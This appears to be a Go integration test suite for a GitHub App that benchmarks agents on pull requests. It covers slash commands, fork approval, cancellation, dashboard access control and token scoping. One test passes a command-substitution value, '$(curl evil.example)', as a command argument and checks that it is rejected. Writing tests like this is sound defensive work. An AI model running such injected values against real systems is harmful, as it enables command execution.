package appcli_test

import (
	"encoding/json"
	"io"
	"maps"
	"net/http"
	"net/http/cookiejar"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/ghx-dev/bench-action/internal/app/settings"
	"github.com/ghx-dev/bench-action/internal/bench"
	"github.com/ghx-dev/bench-action/internal/bench/ledger"
	"github.com/ghx-dev/bench-action/internal/cli/benchcli"
	"github.com/ghx-dev/bench-action/internal/redact"
	"github.com/ghx-dev/bench-action/internal/sandbox"
	"github.com/ghx-dev/bench-action/internal/sandbox/gitstore"
	"github.com/ghx-dev/bench-action/internal/sandbox/model"
	"github.com/ghx-dev/bench-action/internal/sandbox/sandboxtest"
	"github.com/ghx-dev/bench-action/internal/testkit"
)

func contains(texts []string, part string) bool {
	for _, text := range texts {
		if strings.Contains(text, part) {
			return true
		}
	}
	return false
}

// longer is trial with as many cells that something can happen meanwhile.
const longer = "model: scripted\nexecutor: local\nscenario_set: ci-verify-pr\nrepetitions: 10\n"

func TestAPullRequestGetsItsGate(t *testing.T) {
	testkit.NeedComplete(t)
	t.Parallel()
	w := newWorld(t, longer)
	s := w.serve()
	w.open()
	seen := map[model.Status]bool{}
	w.until("the end", func() bool {
		if c := w.last(); c != nil {
			seen[c.Status] = true
		}
		return seen[model.Completed]
	})
	assert.True(t, seen[model.Queued] || seen[model.InProgress], "it was seen before it had completed")
	check := *w.last()
	assert.Equal(t, []any{"bench", w.head, model.Conclusion("neutral")}, []any{check.Name, check.HeadSHA, check.Conclusion}, "no model was involved")
	assert.Contains(t, check.Output.Summary, "Simulated")
	assert.Contains(t, check.Output.Text, "Active tokens")
	assert.Contains(t, check.DetailsURL, "http://bench.example/runs/")
	assert.Contains(t, check.Output.Summary, "[Report](<"+check.DetailsURL+"/explore>)")
	require.Len(t, check.Actions, 3)
	w.said("imulated")
	assert.Zero(t, s.stop(t), s.out)
	assert.NotContains(t, s.out.String(), "ghs_")
}

// replies returns what the App has answered to commands, and reactions how it
// reacted to each comment.
func (w *world) replies() (replies []string, reactions map[model.ID][]string) {
	reactions = map[model.ID][]string{}
	w.Look(func(s *model.State) {
		for c := range s.Comments.All() {
			if s.Login(c.AuthorID) == "bench[bot]" && strings.Contains(c.Body, "<!-- bench-answer ") {
				replies = append(replies, c.Body)
			}
		}
		for r := range s.Reactions.All() {
			reactions[r.SubjectID] = append(reactions[r.SubjectID], r.Content)
		}
	})
	return replies, reactions
}

// metrics returns what Prometheus reads.
func (s *server) metrics(t *testing.T) string {
	t.Helper()
	response, err := http.Get("http://" + s.address + "/metrics")
	require.NoError(t, err)
	defer response.Body.Close()
	body, err := io.ReadAll(response.Body)
	require.NoError(t, err)
	return string(body)
}

// What is judged is how it is in the end: each command has one reaction and one
// answer, and nothing else has any.
func TestCommands(t *testing.T) {
	t.Parallel()
	w := newWorld(t, trial)
	s := w.serve()
	w.open()
	w.concluded(1)
	wanted := map[model.ID][]string{}
	give := func(login, body, reaction string, says ...string) {
		t.Helper()
		wanted[w.comment(login, body)] = []string{reaction}
		w.until("an answer to "+body, func() bool {
			replies, _ := w.replies()
			return slices.ContainsFunc(replies, func(reply string) bool {
				return !slices.ContainsFunc(says, func(part string) bool { return !strings.Contains(reply, part) })
			})
		})
	}
	give("writer", "/bench retry", "-1", "`/bench retry`", "there is nothing to do")
	require.Len(t, w.checks(), 1, "nothing is missing")
	give("writer", "/bench run --repetitions 1", "+1", "`/bench run`", "| Scenarios | `pr-view-001` |", "| Repetitions | 1 |", "| Cells | 2 |", "| Cost | nothing: no model is involved |")
	w.concluded(2)
	give("reader", "/bench run", "-1", "it needs write permission")
	give("stranger", "/bench cancel", "-1", "it needs write permission")
	give("writer", "/bench run --model '$(curl evil.example)'", "confused", "no quotation marks")
	give("writer", "/bench rnu", "confused", "did you mean `run`?")
	give("writer", "/bench status", "+1", "Simulated")
	w.comment("writer", "```\n/bench run\n```")
	w.comment("writer", "> /bench run")
	w.comment("stranger", "what does /bench run do?")
	give("writer", "/bench help", "+1", "/bench approve")
	w.until("talk is ignored", func() bool {
		return strings.Contains(s.metrics(t), `bench_app_ignored_total{event="issue_comment",why="talk"} 3`)
	})

	const answers = 3 + 3 // three of what was carried out, and one for each who gave others
	w.until("all is answered", func() bool {
		replies, reactions := w.replies()
		return len(reactions) >= len(wanted) && len(replies) >= answers
	})
	assert.Len(t, w.checks(), 2)
	replies, reactions := w.replies()
	assert.Len(t, replies, answers)
	assert.Equal(t, wanted, reactions)
	said := s.metrics(t)
	for _, line := range []string{`{command="run",outcome="carried_out"} 1`, `{command="run",outcome="no_permission"} 1`, `{command="unreadable",outcome="mistaken"} 2`} {
		assert.Contains(t, said, "bench_app_commands_total"+line)
	}
	assert.NotContains(t, s.out.String(), "curl evil")
}

func TestAForkIsMeasuredOnceItIsApproved(t *testing.T) {
	t.Parallel()
	w := newWorld(t, trial)
	w.serve()
	w.fork()
	assert.Equal(t, model.Conclusion("action_required"), w.concluded(1).Conclusion)
	w.comment("stranger", "/bench approve "+w.head)
	w.comment("writer", "/bench run")
	w.until("two answers", func() bool { return len(w.comments()) == 2 })
	require.Len(t, w.checks(), 1, "nobody with the right to has approved it")
	w.comment("writer", "/bench approve "+w.head)
	assert.Equal(t, model.Conclusion("neutral"), w.concluded(2).Conclusion)

	pushed := w.As("stranger").Do("PUT", "/repos/stranger/"+sandboxtest.Name+"/contents/more.ts", `{"message":"more","content":"eA==","branch":"main"}`)
	require.Equal(t, http.StatusCreated, pushed.Status, pushed.Body)
	assert.Equal(t, model.Conclusion("action_required"), w.concluded(3).Conclusion, "the approval was of another commit")
}

func TestAPushInTheMiddle(t *testing.T) {
	t.Parallel()
	w := newWorld(t, longer)
	w.serve()
	w.open()
	w.until("it runs", func() bool { c := w.last(); return c != nil && c.Status == model.InProgress })
	old := w.head
	w.push("src/b.ts")
	w.concluded(2)
	checks := w.checks()
	assert.Equal(t, []any{old, model.Conclusion("cancelled")}, []any{checks[0].HeadSHA, checks[0].Conclusion})
	assert.Equal(t, []any{w.head, model.Conclusion("neutral")}, []any{checks[1].HeadSHA, checks[1].Conclusion})
}

func TestACancelAndARerequest(t *testing.T) {
	testkit.NeedComplete(t)
	t.Parallel()
	w := newWorld(t, longer)
	w.serve()
	w.open()
	w.until("it runs", func() bool { c := w.last(); return c != nil && c.Status == model.InProgress })
	w.comment("writer", "/bench cancel")
	check := w.concluded(1)
	assert.Equal(t, model.Conclusion("cancelled"), check.Conclusion)
	assert.Contains(t, check.Output.Summary, "writer")

	w.Change(func(s *model.State, _ *model.Repo) {
		require.NoError(t, s.Rerequest(s.User("writer").ID, s.CheckRuns.Get(check.ID)))
	})
	assert.Equal(t, model.Conclusion("neutral"), w.concluded(2).Conclusion)
	assert.Contains(t, w.last().Output.Text, "| Runs | 20 | 20 |", "with the rows of the run that was cancelled")
	w.comment("writer", "/bench retry")
	w.said("there is nothing to do")
	require.NoError(t, w.PressButton("writer", w.last().ID, "full"))
	w.concluded(3)
}

// A run that goes on with a cancelled one spends the same error budget, and
// looks where that would have looked.
func TestEvidenceInTheApp(t *testing.T) {
	testkit.NeedComplete(t)
	t.Parallel()
	w := newWorld(t, "model: scripted\nexecutor: local\nprofile: regression\nscenarios: [pr-view-001, repo-view-001, issue-view-001, pr-merge-001]\nrepetitions: 2..12\nmargins: {success: 20}\n")
	w.serve()
	w.open()
	w.until("it runs", func() bool { c := w.last(); return c != nil && c.Status == model.InProgress })
	w.comment("writer", "/bench cancel")
	cancelled := w.concluded(1)
	w.Change(func(s *model.State, _ *model.Repo) {
		require.NoError(t, s.Rerequest(s.User("writer").ID, s.CheckRuns.Get(cancelled.ID)))
	})
	check := w.concluded(2)
	assert.Equal(t, model.Conclusion("neutral"), check.Conclusion, check.Output.Summary)
	assert.NotContains(t, check.Output.Summary+check.Output.Text, "one error budget", "it goes on with the first run")

	files, err := filepath.Glob(filepath.Join(w.folder, "runs", "*", "*", "*", ledger.RunFile))
	require.NoError(t, err)
	require.Len(t, files, 2)
	var later ledger.RunInfo
	for _, file := range files {
		run, err := ledger.LoadRun(filepath.Dir(file))
		require.NoError(t, err)
		if len(run.Continues) > 0 {
			later = run
		}
	}
	require.Len(t, later.Continues, 1)
	begun := later.Continues[0]
	assert.Equal(t, []int{12, 2}, []int{begun.Repetitions, begun.FirstLook})
	assert.InDelta(t, 20, begun.Margins.SuccessDropPct, 0)
	assert.InDelta(t, 20, later.Margins.SuccessDropPct, 0)
	require.NotNil(t, later.Judged)
}

// browser is somebody's, signed in at GitHub. Pages are those of the server,
// which its public address leads to.
func (w *world) browser(login string, s *server) *http.Client {
	w.t.Helper()
	jar, err := cookiejar.New(nil)
	require.NoError(w.t, err)
	w.AllowSignIn(login)
	return &http.Client{Jar: jar, Transport: through(func(r *http.Request) (*http.Response, error) {
		if r.URL.Path == "/login/oauth/authorize" {
			query := r.URL.Query()
			query.Set("login", login)
			r.URL.RawQuery = query.Encode()
		}
		if r.URL.Host == "bench.example" {
			r = r.Clone(r.Context())
			r.URL.Host = s.address
		}
		return http.DefaultTransport.RoundTrip(r)
	})}
}

type through func(*http.Request) (*http.Response, error)

// RoundTrip sends a request.
func (f through) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }

// page returns a page of the dashboard.
func page(t *testing.T, browser *http.Client, path string) (int, string) {
	t.Helper()
	response, err := browser.Get("http://bench.example" + path)
	require.NoError(t, err)
	defer response.Body.Close()
	body, err := io.ReadAll(response.Body)
	require.NoError(t, err)
	return response.StatusCode, string(body)
}

func TestTheDashboardIsForThoseWhoSeeTheRepository(t *testing.T) {
	w := newWorld(t, trial)
	w.Change(func(s *model.State, _ *model.Repo) {
		s.Apps.Get(w.app).CallbackURLs = []string{"http://bench.example/login/callback"}
	})
	s := w.serve("BENCH_APP_CLIENT_ID=Iv1.bench", "BENCH_APP_CLIENT_SECRET=a-client-secret")
	w.open()
	run := w.concluded(1).ExternalID

	owner := w.browser("owner", s)
	status, _ := page(t, owner, "/runs/"+run)
	assert.Equal(t, http.StatusUnauthorized, status)
	status, body := page(t, owner, "/login?next=/runs/"+run)
	assert.Equal(t, http.StatusOK, status)
	assert.Contains(t, body, run)
	assert.Contains(t, body, "pr-view-001")
	_, body = page(t, owner, "/")
	assert.Contains(t, body, "/runs/"+run)
	status, body = page(t, owner, "/runs/"+run+"/log")
	assert.Equal(t, http.StatusOK, status)
	assert.Contains(t, body, "$ bench verify --output-dir runs/owner/hello ")
	assert.NotContains(t, body, w.folder, "the server's folders are its own")
	_, body = page(t, owner, "/runs/"+run)
	scenario := "/runs/" + run + "/scenarios/pr-view-001"
	require.Contains(t, body, `<a href="`+scenario+`">`)
	_, body = page(t, owner, scenario)
	require.Contains(t, body, `<a href="`+scenario+`/ghx/2">`)
	_, body = page(t, owner, scenario+"/ghx/2")
	assert.Contains(t, body, "What the agent was told, said and did", "the session's transcript is kept")
	assert.NotContains(t, body, w.folder)
	status, body = page(t, owner, "/api/v1"+scenario+"/ghx/2/transcript")
	assert.Equal(t, http.StatusOK, status)
	assert.Contains(t, body, `"role":"assistant"`)
	_, body = page(t, owner, "/accounts/owner")
	assert.Contains(t, body, "/runs/"+run)
	_, body = page(t, owner, "/?state=finished&kind=pull_request&q=owner%2Fhello")
	assert.Contains(t, body, "/runs/"+run)

	stranger := w.browser("stranger", s)
	_, body = page(t, stranger, "/login?next=/")
	assert.NotContains(t, body, run)
	for _, path := range []string{"/runs/" + run, scenario, scenario + "/ghx/2", "/api/v1" + scenario + "/ghx/2/transcript", "/accounts/owner"} {
		status, _ = page(t, stranger, path)
		assert.Equal(t, http.StatusNotFound, status, path)
	}

	anyone := w.browser("stranger", s)
	status, body = page(t, anyone, "/repos/owner/hello/badge.svg")
	assert.Equal(t, http.StatusOK, status, "the repository is public")
	assert.Contains(t, body, "bench: no verdict", "its default branch was not measured")
	w.Change(func(_ *model.State, repo *model.Repo) { repo.Private = true })
	other := w.serve("BENCH_APP_CLIENT_ID=Iv1.bench", "BENCH_APP_CLIENT_SECRET=a-client-secret", "DATABASE_URL="+databaseIn(t.TempDir()))
	status, _ = page(t, w.browser("stranger", other), "/repos/owner/hello/badge.svg")
	assert.Equal(t, http.StatusNotFound, status, "what is private now")
}

// What is downloaded is a ledger, of which the command makes the same figures.
func TestRowsOfTheAPIAreReadByTheCommand(t *testing.T) {
	w := newWorld(t, trial)
	s := w.serve("BENCH_APP_CLIENT_ID=Iv1.bench", "BENCH_APP_CLIENT_SECRET=a-client-secret")
	w.open()
	run := w.concluded(1).ExternalID
	w.AddToken(sandboxtest.Token("owner"), sandbox.Token{User: "owner", Scopes: []string{"repo"}})
	ask := func(login, path string) (int, []byte) {
		request, err := http.NewRequestWithContext(t.Context(), http.MethodGet, "http://"+s.address+"/api/v1/runs/"+run+path, nil)
		require.NoError(t, err)
		request.Header.Set("Authorization", "Bearer "+sandboxtest.Token(login))
		response, err := http.DefaultClient.Do(request)
		require.NoError(t, err)
		defer response.Body.Close()
		body, err := io.ReadAll(response.Body)
		require.NoError(t, err)
		return response.StatusCode, body
	}
	var known struct{ Summary bench.Summary }
	status, body := ask("owner", "")
	require.Equal(t, http.StatusOK, status, string(body))
	require.NoError(t, json.Unmarshal(body, &known))
	require.NotEmpty(t, known.Summary.Modes)
	status, rows := ask("owner", "/rows")
	require.Equal(t, http.StatusOK, status)
	file := filepath.Join(t.TempDir(), "suite.jsonl")
	require.NoError(t, os.WriteFile(file, rows, 0o600))

	result, err := benchcli.World{Stdout: io.Discard, Stderr: io.Discard, Getenv: os.Getenv, Now: time.Now, Secrets: redact.New()}.Run(t.Context(), "report", "--suite-jsonl", file)
	require.NoError(t, err)
	require.NotNil(t, result.Summary)
	assert.Equal(t, known.Summary.Modes, result.Summary.Modes)
	assert.Equal(t, known.Summary.Gate.Checks, result.Summary.Gate.Checks)

	status, _ = ask("nobody-at-all", "")
	assert.Equal(t, http.StatusUnauthorized, status)
	assert.NotContains(t, s.out.String(), sandboxtest.Token("owner"))
}

func TestCheckSaysWhatTheAppLacks(t *testing.T) {
	w := newWorld(t, trial)
	w.Change(func(s *model.State, _ *model.Repo) {
		app := s.Apps.Get(w.app)
		app.Permissions["checks"], app.Events = "read", []string{"pull_request"}
	})
	code, said := run(t, append(w.env(), "BENCH_APP_PUBLIC_URL="), "check")
	assert.Zero(t, code, said)
	for _, part := range []string{"the permission checks: write", "the event issue_comment", "BENCH_APP_PUBLIC_URL", "the dashboard is off", "no key of a model's API"} {
		assert.Contains(t, said, part)
	}
	other, _ := sandboxtest.Key(t)
	code, said = run(t, append(w.env(), "BENCH_APP_PRIVATE_KEY="+string(other)), "check")
	assert.Equal(t, 2, code)
	assert.Contains(t, said, "GitHub: does not accept the App\n")
	assert.Contains(t, said, "does not accept the key")
}

// plain is Markdown of ours without what keeps texts from being Markdown.
func plain(markdown string) string {
	return strings.NewReplacer(`\`, "", "\u200b", "").Replace(markdown)
}

// fixtures is a repository for fixtures, in which the App is installed too.
const fixtures = "fixtures"

// addFixtures adds it to an account. It consents to what is measured here.
func (w *world) addFixtures(owner string) {
	w.t.Helper()
	w.addTarget(owner, gitstore.Change{Path: settings.ConsentPath, Content: []byte("repositories: [owner/hello]\n")})
}

// addTarget is [world.addFixtures] with these files alone.
func (w *world) addTarget(owner string, files ...gitstore.Change) {
	w.t.Helper()
	files = append(files, gitstore.Change{Path: "README.md", Content: []byte("# fixtures\n")})
	w.Change(func(s *model.State, repo *model.Repo) {
		account := s.User(owner).ID
		added := s.AddRepo(model.NewRepo{Owner: account, Name: fixtures})
		require.NoError(w.t, s.PushInitial(account, added, files, "first"))
		app := s.Apps.Get(w.app)
		repos := []model.ID{added.ID}
		if account == repo.OwnerID {
			repos = append(repos, repo.ID)
		}
		s.Install(account, app, account, repos)
	})
}

// left counts what is in the fixtures repository besides its first commit.
func (w *world) left() (open, branches int) {
	w.Look(func(s *model.State) {
		repo := s.Repo(sandboxtest.Owner, fixtures)
		open = len(s.Issues.Where(func(i *model.Issue) bool { return i.RepoID == repo.ID && !i.Closed }))
	})
	reply := w.As("owner").Get("/repos/" + sandboxtest.Owner + "/" + fixtures + "/branches")
	return open, strings.Count(reply.Body, `"name"`)
}

func TestFixturesAreSeededAndRemoved(t *testing.T) {
	w := newWorld(t, trial+"target: owner/fixtures\n")
	w.addFixtures(sandboxtest.Owner)
	s := w.serve()
	w.open()
	tokens := map[string]sandbox.Token{} // revoked ones too, so they are gathered on the way
	w.until("the end", func() bool {
		maps.Copy(tokens, w.Tokens())
		c := w.last()
		return c != nil && c.Status == model.Completed
	})
	check := *w.last()
	assert.Equal(t, model.Conclusion("neutral"), check.Conclusion, check.Output.Summary)
	assert.Contains(t, check.Output.Summary, "Simulated")
	open, branches := w.left()
	assert.Equal(t, []int{0, 1}, []int{open, branches}, "what was seeded is removed")
	assert.Zero(t, s.stop(t), s.out)
	wrote := map[string]bool{}
	used := map[string]map[string]bool{}
	for _, entry := range w.Audit() {
		assert.False(t, entry.Token != "" && strings.Contains(s.out.String(), entry.Token), "the log has a token of %s", entry.Path)
		if !strings.HasPrefix(entry.Token, "ghs_") {
			continue
		}
		if used[entry.Token] == nil {
			used[entry.Token] = map[string]bool{}
		}
		for _, object := range entry.Objects {
			used[entry.Token][repoIn.FindString(object)] = true
		}
		if strings.HasPrefix(entry.Path, "/repos/owner/fixtures/") && entry.Write {
			wrote[entry.Token] = true
		}
	}
	require.NotEmpty(t, wrote)
	var fixturesID model.ID
	w.Look(func(s *model.State) { fixturesID = s.Repo(sandboxtest.Owner, fixtures).ID })
	for token := range wrote {
		assert.Equal(t, []model.ID{fixturesID}, tokens[token].Repos, "it is for no other repository")
		assert.Equal(t, map[string]bool{"owner/fixtures": true}, used[token], "it was used for no other repository")
	}
}

// repoIn finds the repository in the name of an object.
var repoIn = regexp.MustCompile(`owner/[a-z]+`)

func TestFixturesAreRemovedThoughTheRunWasCancelled(t *testing.T) {
	w := newWorld(t, longer+"target: owner/fixtures\n")
	w.addFixtures(sandboxtest.Owner)
	w.serve()
	w.open()
	w.until("fixtures", func() bool { open, _ := w.left(); return open > 0 })
	w.comment("writer", "/bench cancel")
	assert.Equal(t, model.Conclusion("cancelled"), w.concluded(1).Conclusion)
	w.until("what was seeded is removed", func() bool {
		open, branches := w.left()
		return open == 0 && branches == 1
	})
}

// What a repository's settings name is not more than its owner has.
func TestFixturesOfAnotherAccountAreNotTouched(t *testing.T) {
	w := newWorld(t, trial+"target: stranger/fixtures\n")
	w.addFixtures("stranger")
	w.serve()
	w.open()
	check := w.concluded(1)
	assert.Equal(t, model.Conclusion("action_required"), check.Conclusion)
	assert.Contains(t, check.Output.Summary, "belongs to another account")
	for _, entry := range w.Audit() {
		assert.False(t, entry.Write && strings.HasPrefix(entry.Path, "/repos/stranger/fixtures"), entry.Path)
	}
}

// Who may write settings somewhere is not to have the App write elsewhere.
func TestARepositoryThatDoesNotConsentIsNotTouched(t *testing.T) {
	for name, files := range map[string][]gitstore.Change{
		"it has no file":         nil,
		"it names another one":   {{Path: settings.ConsentPath, Content: []byte("repositories: [owner/other]\n")}},
		"its file has a mistake": {{Path: settings.ConsentPath, Content: []byte("repos: [owner/hello]\n")}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t, trial+"target: owner/fixtures\n")
			w.addTarget(sandboxtest.Owner, files...)
			w.serve()
			w.open()
			check := w.concluded(1)
			assert.Equal(t, model.Conclusion("action_required"), check.Conclusion)
			assert.Contains(t, plain(check.Output.Summary), `once "repositories: [owner/hello]" is in .github/bench-fixtures.yml on the default branch of owner/fixtures`)
			for _, entry := range w.Audit() {
				if strings.HasPrefix(entry.Path, "/repos/owner/fixtures/") && !strings.HasSuffix(entry.Path, "/installation") {
					assert.Equal(t, "/repos/owner/fixtures/contents/"+settings.ConsentPath, entry.Path)
					assert.False(t, entry.Write)
				}
			}
		})
	}
}
